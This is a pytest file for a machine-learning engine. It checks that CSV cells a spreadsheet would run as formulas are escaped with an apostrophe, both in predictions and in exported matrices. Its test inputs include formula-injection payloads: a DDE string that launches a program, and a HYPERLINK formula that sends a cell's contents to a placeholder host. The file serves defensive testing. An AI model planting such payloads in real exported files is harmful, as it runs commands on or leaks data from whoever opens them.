"""Texts of the data that a spreadsheet would run as formulas, and the files that we write them to."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.common.spreadsheet import escaped, unescaped
from engine.data.reading.csv_reader import read_csv
from engine.files.export.csv_folder import save_csv_folder
from engine.files.prediction.prediction_file import predict_file
from engine.project.project import DataChoices
from tests.trained import small_model

LINK = '=HYPERLINK("http://example.org?x="&A1,"click")'


@pytest.mark.parametrize("text", [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1"])
def test_formulas_get_an_apostrophe(text: str) -> None:
    assert escaped(text) == "'" + text
    assert escaped("'" + text) == "''" + text


@pytest.mark.parametrize(
    "text", ["", "-1.5", "+3", "-1e-7", "-", "+", "a=b", "red", "'quoted'", "p_=x", "10 %"]
)
def test_all_else_stays(text: str) -> None:
    assert escaped(text) == text


@given(st.text(alphabet="'=+-@\t\ra1.", max_size=6))
def test_the_escape_is_taken_away_again(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert not escaped(text).startswith(("=", "@", "\t", "\r")) or len(text) == 1


def hostile_table(path: Path) -> Path:
    rows = [["@size", "=name()", "kind"]]
    rows += [[f"{i}.5", ("+a+b", "-c d", "plain")[i % 3], (LINK, "-1+1", "'=x")[i % 3]] for i in range(60)]
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_predictions_are_harmless_and_read_back(tmp_path: Path) -> None:
    table = hostile_table(tmp_path / "a.csv")
    model = small_model(table, epochs=40, choices=DataChoices(path=str(table), target="kind"))
    # "'=x" in a file is the escaped "=x".
    assert set(model.preparation.task.classes) == {LINK, "-1+1", "=x"}
    predictions = model.predict(model.read(table))
    predict_file(model, table, tmp_path / "p.csv")
    written = cells(tmp_path / "p.csv")
    assert {row[0][:2] for row in written[1:]} <= {"'=", "'-"}
    assert written[0] == ["prediction", *(f"p_{name}" for name in predictions.classes)]
    again = read_csv(tmp_path / "p.csv")
    column = again.column("prediction")
    assert [column.categories[code] for code in column.values] == list(predictions.prediction)
    assert predictions.probabilities is not None
    found = np.column_stack([again.column(f"p_{name}").values for name in predictions.classes])
    assert np.array_equal(found, predictions.probabilities)


def test_headers_of_exported_matrices_are_harmless(tmp_path: Path) -> None:
    table = hostile_table(tmp_path / "a.csv")
    model = small_model(table, choices=DataChoices(path=str(table), target="kind"))
    save_csv_folder(tmp_path / "out", model)
    header = cells(tmp_path / "out" / "W1.csv")[0]
    assert header[0] == "'@size"
    assert header[1].startswith("'=name() = ")
    classes = cells(tmp_path / "out" / "b2.csv")[0]
    assert [unescaped(name) for name in classes] == list(model.preparation.task.classes)
    assert all(
        not cell.startswith(("=", "+", "@"))
        for file in (tmp_path / "out").glob("*.csv")
        for cell in cells(file)[0]
    )
